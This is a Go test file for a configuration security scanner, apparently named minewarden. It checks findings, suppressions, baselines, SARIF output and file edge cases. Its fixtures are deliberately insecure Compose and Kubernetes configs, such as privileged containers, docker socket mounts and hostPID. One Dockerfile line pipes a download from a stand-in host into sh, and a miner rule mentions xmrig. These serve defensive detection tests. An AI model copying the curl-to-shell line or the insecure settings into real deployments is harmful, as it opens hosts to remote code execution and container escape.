package gate

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/minewarden/minewarden"
	"github.com/minewarden/minewarden/audits/compose"
	"github.com/minewarden/minewarden/audits/dockerfile"
	"github.com/minewarden/minewarden/audits/kubernetes"
)

func auditors(t testing.TB) []minewarden.FileAuditor {
	t.Helper()
	env := minewarden.Env{Now: func() time.Time { return time.Unix(1700000000, 0) }}
	var out []minewarden.FileAuditor
	for _, f := range []func(minewarden.Env) (minewarden.Auditor, error){kubernetes.New, compose.New, dockerfile.New} {
		a, err := f(env)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, a.(minewarden.FileAuditor))
	}
	return out
}

func allRules(as []minewarden.FileAuditor) []minewarden.Rule {
	var out []minewarden.Rule
	for _, a := range as {
		out = append(out, a.Rules()...)
	}
	return out
}

func write(t testing.TB, dir, name, text string) {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

func run(t testing.TB, opt Options) *Result {
	t.Helper()
	opt.Auditors = auditors(t)
	r, err := Run(context.Background(), opt)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func list(r *Result, dir string) []string {
	var out []string
	for _, l := range r.Checks {
		if l.Active() {
			out = append(out, fmt.Sprintf("%s:%d:%d %s", strings.TrimPrefix(l.Path, dir+"/"), l.Check.Subject.Line, l.Check.Subject.Column, l.Check.Rule))
		}
	}
	return out
}

const badCompose = `services:
  agent:
    image: alpine
    privileged: true
    volumes:
      - /var/run/docker.sock:/var/run/docker.sock
      - type: bind
        source: /etc
        target: /host/etc
  db:
    image: redis:7
    ports:
      - "6379:6379"
`

const badPods = `apiVersion: v1
kind: Service
metadata: {name: ok}
---
apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: agent
spec:
  template:
    spec:
      hostPID: true
      automountServiceAccountToken: false
      containers:
        - name: a
          image: alpine
          securityContext:
            privileged: true
      volumes:
        - name: root
          hostPath:
            path: /
`

func TestFindsWithPositions(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "deploy/stack.yml", badCompose)
	write(t, dir, "k8s/all.yaml", badPods)
	write(t, dir, "Dockerfile", "FROM alpine\nRUN apk add curl \\\n  && curl -s http://x.example/i | sh\nUSER 1000\nCMD [\"/app\"]\n")
	write(t, dir, "notes.md", "services: privileged: true\n")
	got := list(run(t, Options{Paths: []string{dir}}), dir)
	want := []string{
		"Dockerfile:3:1 dockerfile/downloader",
		"deploy/stack.yml:4:5 compose/privileged",
		"deploy/stack.yml:6:9 compose/runtime-socket",
		"deploy/stack.yml:7:9 compose/host-path-sensitive",
		"deploy/stack.yml:13:9 compose/control-port-published",
		"k8s/all.yaml:12:7 kubernetes/host-pid",
		"k8s/all.yaml:18:13 kubernetes/privileged",
		"k8s/all.yaml:21:11 kubernetes/host-path-sensitive",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestSuppressionNeedsAReason(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "a.yml", "services:\n  a:\n    image: x\n    privileged: true # minewarden:ignore compose/privileged burn-in host\n    # minewarden:ignore compose/host-pid the profiler\n    # of the kernel team\n    pid: host\n")
	write(t, dir, "b.yml", "services:\n  a:\n    image: x\n    privileged: true # minewarden:ignore compose/privileged\n    # minewarden:ignore compose/other a reason\n    pid: host\n    command: minewarden:ignore compose/miner why xmrig\n")
	r := run(t, Options{Paths: []string{dir}})
	got := strings.Join(list(r, dir), "\n")
	want := "b.yml:4:5 compose/privileged\nb.yml:6:5 compose/host-pid\nb.yml:7:14 compose/miner"
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	for _, l := range r.Findings() {
		if strings.HasSuffix(l.Path, "a.yml") && l.Suppressed == "" {
			t.Errorf("%s lost its reason", l.Check.Rule)
		}
	}
}

func TestBaselineSurvivesMovedLines(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "a.yml", badCompose)
	r := run(t, Options{Paths: []string{dir}})
	var b bytes.Buffer
	if err := WriteBaseline(&b, r); err != nil {
		t.Fatal(err)
	}
	base, err := ReadBaseline(&b)
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "a.yml", "# moved\n\n"+badCompose+"    pid: host\n")
	if got := list(run(t, Options{Paths: []string{dir}, Baseline: base}), dir); len(got) != 1 || !strings.Contains(got[0], "compose/host-pid") {
		t.Errorf("got %q, want the new finding alone", got)
	}
	if _, err := ReadBaseline(strings.NewReader(`{"version":2,"findings":[]}`)); err == nil {
		t.Error("a baseline of another version was taken")
	}
}

func TestSARIFIsValid(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "a b.yml", badCompose)
	write(t, dir, "c.yml", "services:\n  a: {image: x, privileged: true} # minewarden:ignore compose/privileged why not\n")
	write(t, dir, "broken.yml", "services:\n  a:\n\tb: [\n")
	write(t, dir, "bin", "a\x00b")
	as := auditors(t)
	r, err := Run(context.Background(), Options{Paths: []string{dir}, Auditors: as})
	if err != nil {
		t.Fatal(err)
	}
	rep := report(r, allRules(as), "1.0.0")
	if err := rep.Validate(); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := SARIF(&b, r, allRules(as), "1.0.0"); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"a%20b.yml", "why not", "inSource", `"startLine": 4`, "binary"} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("SARIF lacks %q", want)
		}
	}
	if len(rep.Runs[0].Results) != 5 {
		t.Errorf("%d results, want 5", len(rep.Runs[0].Results))
	}
}

func TestBrokenFilesKeepTheirPosition(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "broken.yml", "services:\n  a:\n    image: x\n\tb: 1\n")
	write(t, dir, "good.yml", badCompose)
	write(t, dir, "chart.yaml", "apiVersion: v1\nkind: Pod\nspec:\n  {{- if .Values.x }}\n  hostPID: true\n  {{ end }}\n")
	r := run(t, Options{Paths: []string{dir}})
	if len(r.Errors) != 1 || r.Errors[0].Line != 4 || r.Errors[0].Column < 1 {
		t.Errorf("errors: %+v", r.Errors)
	}
	if len(list(r, dir)) != 4 {
		t.Errorf("the others did not go on: %q", list(r, dir))
	}
	if len(r.Skipped) != 1 || !strings.Contains(r.Skipped[0].Reason, "template") {
		t.Errorf("skipped: %+v", r.Skipped)
	}
}

func TestOddFiles(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "a/x.yml", badCompose)
	for name, to := range map[string]string{"a/loop": "..", "self": "self", "gone": "nowhere", "twin.yml": "a/x.yml"} {
		if err := os.Symlink(to, filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	if err := unix.Mkfifo(filepath.Join(dir, "pipe.yml"), 0o600); err != nil {
		t.Fatal(err)
	}
	huge := filepath.Join(dir, "huge.yml")
	write(t, dir, "huge.yml", "services:\n  a:\n    image: x\n")
	if err := os.Truncate(huge, 1<<30); err != nil { // a hole: binary by its zeros
		t.Fatal(err)
	}
	write(t, dir, "large.yml", badCompose+strings.Repeat("# padding\n", 500_000))
	write(t, dir, ".git/config.yml", badCompose)
	r := run(t, Options{Paths: []string{dir}})
	if got := list(r, dir); len(got) != 4 {
		t.Errorf("findings %q, want those of a/x.yml", got)
	}
	why := map[string]string{}
	for _, s := range r.Skipped {
		why[strings.TrimPrefix(s.Path, dir+"/")] = s.Reason
	}
	for name, part := range map[string]string{"a/loop": "symbolic", "self": "symbolic", "gone": "symbolic", "twin.yml": "symbolic", "pipe.yml": "regular", "huge.yml": "binary", "large.yml": "larger", ".git": "version"} {
		if !strings.Contains(why[name], part) {
			t.Errorf("%s: %q, want %q", name, why[name], part)
		}
	}
	if _, err := Run(context.Background(), Options{Paths: []string{filepath.Join(dir, "none")}}); err == nil {
		t.Error("a path that is not there is no error")
	}
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(filepath.Join(dir, "a"), link); err != nil {
		t.Fatal(err)
	}
	if got := list(run(t, Options{Paths: []string{link}}), link); len(got) != 4 {
		t.Errorf("a link that the user names: %q", got)
	}
}

func TestFragments(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "cloud.yaml", `#cloud-config
write_files:
  - path: /opt/stack/compose.yml
    content: |
      services:
        a:
          image: alpine
          privileged: true
`)
	write(t, dir, "cm.yaml", `apiVersion: v1
kind: ConfigMap
metadata: {name: x}
data:
  stack.yml: |
    services:
      a:
        image: alpine
        pid: host
  readme: |
    nothing
`)
	write(t, dir, "play.yml", `- hosts: all
  tasks:
    - name: stack
      ansible.builtin.copy:
        dest: /srv/compose.yaml
        content: |

          services:
            a:
              image: "{{ image }}"
              ipc: host
`)
	r := run(t, Options{Paths: []string{dir}})
	got := strings.Join(list(r, dir), "\n")
	want := "cloud.yaml:8:11 compose/privileged\ncm.yaml:9:9 compose/host-pid\nplay.yml:11:15 compose/host-ipc"
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	for _, l := range r.Findings() {
		if !l.Fragment || l.Check.Repair != nil && len(l.Check.Repair.Edits) > 0 {
			t.Errorf("%s: edits of a fragment cannot be applied", l.Check.Rule)
		}
	}
}

func repository(tb testing.TB, n int) string {
	dir := tb.TempDir()
	for i := range n {
		sub := fmt.Sprintf("d%d", i%100)
		switch i % 5 {
		case 0:
			write(tb, dir, fmt.Sprintf("%s/%d.yml", sub, i), badCompose)
		case 1:
			write(tb, dir, fmt.Sprintf("%s/%d.yaml", sub, i), badPods)
		case 2:
			write(tb, dir, fmt.Sprintf("%s/Dockerfile.%d", sub, i), "FROM alpine\nUSER 1\nRUN true\nCMD [\"/x\"]\n")
		case 3:
			write(tb, dir, fmt.Sprintf("%s/%d.go", sub, i), strings.Repeat("package x // some source text\n", 200))
		default:
			write(tb, dir, fmt.Sprintf("%s/%d.json", sub, i), `{"a": [1,2,3], "b": "services"}`)
		}
	}
	return dir
}

func BenchmarkRun(b *testing.B) {
	for _, n := range []int{1000, 10000} {
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			dir := repository(b, n)
			for b.Loop() {
				run(b, Options{Paths: []string{dir}})
			}
		})
	}
}

func FuzzFragments(f *testing.F) {
	f.Add([]byte("write_files:\n- path: a\n  content: |\n   x\n"))
	f.Add([]byte("kind: ConfigMap\ndata:\n  a: |\n\n\n    x\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		nests("a.yml", data)
		for _, fr := range fragments(data) {
			if fr.line < 1 || fr.indent < 0 {
				t.Fatalf("%+v", fr)
			}
		}
		l := newLines(data)
		for n := range 5 {
			l.suppressed("a/b", n)
			l.text(n)
		}
	})
}
